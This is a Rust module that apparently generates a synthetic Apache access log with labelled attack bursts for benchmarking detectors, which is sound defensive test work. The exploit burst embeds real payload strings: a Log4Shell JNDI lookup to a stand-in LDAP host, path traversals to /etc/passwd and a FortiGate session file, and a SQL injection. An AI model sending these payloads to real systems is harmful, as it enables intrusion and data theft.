//! Scenario `web-volume`: one big Apache `combined` log of about
//! `opts.bytes` bytes, written fast for benchmarks.
//!
//! Speed comes from prebuilt line parts: address prefixes (`ip - - [`),
//! request tails (`] "GET …" 200 … "ua"`) grouped into page-plus-assets
//! sessions, and a timestamp string rebuilt only when the second changes.
//! Attack bursts (scan, sensitive sweep, scanner UA, exploit probes, admin
//! enumeration) from documentation addresses are spread evenly through the
//! file and labelled.

use crate::clock::{push_clf, Zone, DAY, MS, PERIOD_START};
use crate::election::benign::user_ip;
use crate::election::catalog::{self, SiteKind, ADMIN_PANELS, BROWSERS, NUCLEI, SENSITIVE};
use crate::label::{LabelKind, LabelSpec, Labels, Tag};
use crate::write::{push_combined, push_quoted, write_metadata, OutFile, Req};
use crate::{SimError, SimOptions, SimSummary};
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use std::borrow::Cow;
use std::collections::VecDeque;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// The site the volume log belongs to (mapped in `targets.toml`).
const SITE: &str = "www.example";
const ZONE: Zone = Zone::Utc;
/// Minimum simulated time between attack bursts, so they never overlap.
const BURST_SPACING_MIN_MS: i64 = 600 * MS;

/// One session template: a page and the assets it pulls in, as request
/// tails that follow the timestamp.
type Session = Vec<Vec<u8>>;

fn tail(
    out: &mut Vec<u8>,
    method: &str,
    target: &str,
    status: u16,
    bytes: u32,
    referer: &str,
    ua: &str,
) {
    out.extend_from_slice(b"] \"");
    out.extend_from_slice(method.as_bytes());
    out.push(b' ');
    out.extend_from_slice(target.as_bytes());
    out.extend_from_slice(b" HTTP/1.1\" ");
    out.extend_from_slice(status.to_string().as_bytes());
    out.push(b' ');
    if bytes == 0 {
        out.push(b'-');
    } else {
        out.extend_from_slice(bytes.to_string().as_bytes());
    }
    out.push(b' ');
    push_quoted(out, referer);
    out.push(b' ');
    push_quoted(out, ua);
    out.push(b'\n');
}

fn sessions(rng: &mut ChaCha8Rng) -> Vec<Session> {
    let pages = catalog::pages(SiteKind::News);
    let assets = catalog::assets(SiteKind::News);
    let broken = catalog::broken_links(SiteKind::News);
    let mut out = Vec::with_capacity(2048);
    for _ in 0..2048 {
        let ua = *BROWSERS.choose(rng).expect("non-empty");
        let mut s: Session = Vec::new();
        let mut t = Vec::new();
        if rng.gen_ratio(1, 50) {
            let b = broken.choose(rng).expect("non-empty");
            tail(&mut t, "GET", b, 404, 512, "https://www.google.com/", ua);
            s.push(t);
            out.push(s);
            continue;
        }
        let page = pages.choose(rng).expect("non-empty");
        let referer = *catalog::ENTRY_REFERERS.choose(rng).expect("non-empty");
        tail(
            &mut t,
            "GET",
            page,
            200,
            rng.gen_range(8_000..64_000),
            referer,
            ua,
        );
        s.push(t);
        let url = format!("https://{SITE}{page}");
        let n = if rng.gen_ratio(1, 3) {
            assets.len()
        } else {
            rng.gen_range(0..3)
        };
        for a in assets.iter().take(n) {
            let mut t = Vec::new();
            let (status, bytes) = if n == assets.len() {
                (200, rng.gen_range(2_000..300_000))
            } else {
                (304, 0)
            };
            tail(&mut t, "GET", a, status, bytes, &url, ua);
            s.push(t);
        }
        out.push(s);
    }
    out
}

fn attacker_ip(k: u32) -> IpAddr {
    const NETS: [[u8; 3]; 3] = [[198, 51, 100], [203, 0, 113], [192, 0, 2]];
    if k < 750 {
        let n = NETS[(k % 3) as usize];
        IpAddr::V4(Ipv4Addr::new(n[0], n[1], n[2], 1 + (k / 3) as u8))
    } else {
        IpAddr::V6(Ipv6Addr::new(
            0x2001,
            0xdb8,
            0xbad,
            (k >> 16) as u16,
            k as u16,
            0,
            0,
            1,
        ))
    }
}

/// Attack burst `k` starting at `t0`: its requests, in time order.
fn burst(k: u32, t0: i64, rng: &mut ChaCha8Rng, labels: &mut Labels) -> Vec<Req> {
    let ip = attacker_ip(k);
    let (role, detector, technique) = match k % 5 {
        0 => ("scan", "web.scan", "T1595.002"),
        1 => ("sensitive", "web.sensitive", "T1595.003"),
        2 => ("scanner_ua", "web.scanner_ua", "T1595.002"),
        3 => ("exploit", "web.exploit", "T1190"),
        _ => ("admin_enum", "web.admin_enum", "T1595.003"),
    };
    let tag: Tag = labels.tag(LabelSpec {
        kind: LabelKind::Attack,
        actor: "actor-v",
        role,
        ip,
        site: SITE,
        detector: Some(detector),
        technique: Some(technique),
        prefix: None,
    });
    let ua_plain = BROWSERS[(k as usize) % BROWSERS.len()];
    let mut plan: Vec<(Cow<'static, str>, u16, &'static str)> = match k % 5 {
        0 => {
            let mut p = catalog::scan_paths();
            p.shuffle(rng);
            p.into_iter()
                .take(180)
                .enumerate()
                .map(|(i, p)| (Cow::Owned(p), if i % 7 == 0 { 403 } else { 404 }, ua_plain))
                .collect()
        }
        1 => SENSITIVE
            .iter()
            .map(|p| (Cow::Borrowed(*p), 404, ua_plain))
            .collect(),
        2 => {
            let mut p = catalog::scan_paths();
            p.shuffle(rng);
            p.into_iter()
                .take(30)
                .map(|p| (Cow::Owned(p), 404, NUCLEI))
                .collect()
        }
        3 => vec![
            (Cow::Borrowed("/"), 200, "${jndi:ldap://203.0.113.9:1389/a}"),
            (
                Cow::Borrowed("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
                400,
                ua_plain,
            ),
            (
                Cow::Borrowed(
                    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
                ),
                404,
                ua_plain,
            ),
            (
                Cow::Borrowed("/search?q=1%27%20UNION%20SELECT%20NULL,NULL--%20-"),
                500,
                ua_plain,
            ),
        ],
        _ => ADMIN_PANELS
            .iter()
            .map(|p| (Cow::Borrowed(*p), 404, ua_plain))
            .collect(),
    };
    if k % 5 != 3 {
        plan.shuffle(rng);
    }
    let mut t = t0;
    plan.into_iter()
        .map(|(target, status, ua)| {
            t += rng.gen_range(700..1_300);
            Req {
                ms: t,
                ip,
                method: "GET",
                target,
                status,
                bytes: if status == 200 { 20_000 } else { 209 },
                ua,
                referer: Cow::Borrowed(""),
                site: 0,
                tag,
            }
        })
        .collect()
}

/// Folders of hostile probes (`--probes`).
const PROBE_DIRS: &[&str] = &[
    "",
    "admin",
    "backup",
    "old",
    "api/v1",
    "cgi-bin",
    "uploads",
    "wp-content/uploads",
    "vendor/phpunit",
    "static",
    "images",
    "tmp",
    "test",
    "includes",
];
/// Extensions of hostile probes.
const PROBE_EXTS: &[&str] = &[
    "php", "php", "env", "zip", "bak", "sql", "jsp", "aspx", "txt", "json", "tar.gz", "cgi",
];
const PROBE_ALNUM: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";

/// Lower-case letters and digits, `n` of them.
fn token(rng: &mut ChaCha8Rng, n: usize) -> String {
    (0..n)
        .map(|_| char::from(PROBE_ALNUM[rng.gen_range(0..PROBE_ALNUM.len())]))
        .collect()
}

/// One hostile probe's request tail (`] "GET …" 404 …`): a path no other
/// request asks for, mostly answered 404 or 403, with no, a tool's or a
/// made-up browser's user agent.
fn probe(rng: &mut ChaCha8Rng) -> Vec<u8> {
    let method = match rng.gen_range(0..10) {
        0..=6 => "GET",
        7 | 8 => "HEAD",
        _ => "POST",
    };
    let dir = PROBE_DIRS[rng.gen_range(0..PROBE_DIRS.len())];
    let ext = PROBE_EXTS[rng.gen_range(0..PROBE_EXTS.len())];
    let len = rng.gen_range(6..15);
    let name = token(rng, len);
    let mut target = if dir.is_empty() {
        format!("/{name}.{ext}")
    } else {
        format!("/{dir}/{name}.{ext}")
    };
    if rng.gen_ratio(1, 4) {
        target.push_str("?id=");
        target.push_str(&token(rng, 8));
    }
    let status = match rng.gen_range(0..20) {
        0..=13 => 404,
        14..=16 => 403,
        17 => 301,
        18 => 200,
        _ => 500,
    };
    let referer = if rng.gen_ratio(2, 3) {
        String::new()
    } else {
        format!("https://{}.example.net/", token(rng, 8))
    };
    let ua = match rng.gen_range(0..5) {
        0 => String::new(),
        1 => format!("python-requests/2.{}.{}", rng.gen_range(0..33), rng.gen_range(0..4)),
        2 => format!("curl/7.{}.{}", rng.gen_range(20..89), rng.gen_range(0..3)),
        _ => format!(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.{}.{} Safari/537.36",
            rng.gen_range(60..131),
            rng.gen_range(1000..7000),
            rng.gen_range(0..200)
        ),
    };
    let mut out = Vec::with_capacity(256);
    let bytes = rng.gen_range(150..9000);
    tail(&mut out, method, &target, status, bytes, &referer, &ua);
    out
}

/// Client addresses formatted once, up front; a larger `sources` derives
/// each visit's address from its index.
const PREBUILT: usize = 65_536;

/// `out` becomes the line start (`ip - - [`) of client `k` of a large
/// population: its address is a bijective mix of `k`, one in ten IPv6 (a /64
/// per client), the rest IPv4 in the benign octets.
fn set_line_start(out: &mut Vec<u8>, k: u64) {
    use std::io::Write;
    let mut z = k.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^= z >> 31;
    let addr = if z.is_multiple_of(10) {
        let hi = 0x2600_1700_0000_0000 | (z >> 32);
        IpAddr::V6(Ipv6Addr::from((u128::from(hi) << 64) | u128::from(z | 1)))
    } else {
        let octets = crate::election::benign::USER_OCTETS;
        let a = octets[(z >> 40) as usize % octets.len()];
        let [_, _, _, _, _, b, c, d] = z.to_be_bytes();
        IpAddr::V4(Ipv4Addr::new(a, b, c, d.max(1)))
    };
    out.clear();
    // Writing to a Vec cannot fail.
    let _ = write!(out, "{addr} - - [");
}

pub(crate) fn run(opts: &SimOptions) -> Result<SimSummary, SimError> {
    let mut rng = ChaCha8Rng::seed_from_u64(opts.seed);
    rng.set_stream(200);
    // Up to PREBUILT addresses are formatted once; more are made per visit.
    let pool = usize::try_from(opts.sources)
        .ok()
        .filter(|&n| (1..=PREBUILT).contains(&n));
    let ips: Vec<Vec<u8>> = (0..pool.unwrap_or(16))
        .map(|_| format!("{} - - [", user_ip(&mut rng)).into_bytes())
        .collect();
    let mut fresh = Vec::with_capacity(64);
    let mut per_line = Vec::with_capacity(64);
    let mut visits = 0u64;
    let sessions = sessions(&mut rng);
    let avg: u64 = {
        let n: usize = sessions.iter().map(Vec::len).sum();
        let tails: usize = sessions.iter().flatten().map(Vec::len).sum();
        let ip: usize = ips.iter().map(Vec::len).sum::<usize>() / ips.len();
        (tails / n + ip + 26) as u64
    };
    let est_lines = (opts.bytes / avg).max(1);
    let period_ms = i64::from(opts.days) * DAY * MS;
    let start_ms = PERIOD_START * MS;
    let spacing =
        (period_ms / (est_lines as i64 / 200_000).clamp(4, 10_000)).max(BURST_SPACING_MIN_MS);
    let mut next_burst = start_ms + spacing / 2;
    let mut k = 0u32;
    let mut labels = Labels::default();
    let mut pending: VecDeque<Req> = VecDeque::new();

    let path = opts.out.join("access.log");
    let mut file = OutFile::create(&path)?;
    let mut buf: Vec<u8> = Vec::with_capacity(1 << 22);
    let mut ts: Vec<u8> = Vec::with_capacity(32);
    let mut ts_secs = i64::MIN;
    let mut summary = SimSummary::default();
    let mut written = 0u64;
    while written < opts.bytes {
        // A visit's address: from the pool, or made from its index.
        let visit: Option<&[u8]> = match (pool, opts.sources) {
            (Some(n), _) => Some(&ips[rng.gen::<u32>() as usize % n]),
            (None, 0) => None,
            (None, n) => {
                let k = rng.gen_range(0..n);
                set_line_start(&mut fresh, k);
                Some(&fresh)
            }
        };
        let probe_visit;
        let s: &[Vec<u8>] = if opts.probes > 0 && rng.gen_range(0..100) < opts.probes {
            probe_visit = [probe(&mut rng)];
            &probe_visit
        } else {
            &sessions[rng.gen_range(0..sessions.len())]
        };
        for t in s {
            // Time follows the bytes written, so the file spans the period.
            let ms = start_ms
                + ((i128::from(written) * i128::from(period_ms) / i128::from(opts.bytes.max(1)))
                    as i64)
                    .min(period_ms - 1);
            if ms >= next_burst {
                pending.extend(burst(k, ms, &mut rng, &mut labels));
                k += 1;
                next_burst += spacing;
            }
            while pending.front().is_some_and(|r| r.ms <= ms) {
                let r = pending.pop_front().expect("non-empty");
                let before = buf.len();
                push_combined(&mut buf, &r, ZONE);
                written += (buf.len() - before) as u64;
                summary.lines += 1;
                labels.record(r.tag, r.ms);
            }
            let secs = ms.div_euclid(MS);
            if secs != ts_secs {
                ts.clear();
                push_clf(&mut ts, secs, ZONE);
                ts_secs = secs;
            }
            // `--sources 0`: every request from a new address.
            let ip: &[u8] = match visit {
                Some(ip) => ip,
                None => {
                    set_line_start(&mut per_line, visits);
                    visits += 1;
                    &per_line
                }
            };
            buf.extend_from_slice(ip);
            buf.extend_from_slice(&ts);
            buf.extend_from_slice(t);
            written += (ip.len() + ts.len() + t.len()) as u64;
            summary.lines += 1;
        }
        if buf.len() >= 1 << 22 {
            file.write(&buf)?;
            buf.clear();
        }
    }
    // Finish a burst in progress so every labelled attack is whole.
    for r in pending.drain(..) {
        let before = buf.len();
        push_combined(&mut buf, &r, ZONE);
        written += (buf.len() - before) as u64;
        summary.lines += 1;
        labels.record(r.tag, r.ms);
    }
    file.write(&buf)?;
    summary.files.push(file.finish()?);
    summary.bytes = written;
    let targets = format!(
        "[[target]]\nname = \"{SITE}\"\norganisation = \"Example Org\"\nsector = \"other\"\nregion = \"US\"\npaths = [\"access.log\"]\n"
    );
    write_metadata(&opts.out, &labels, &targets, &mut summary)?;
    Ok(summary)
}
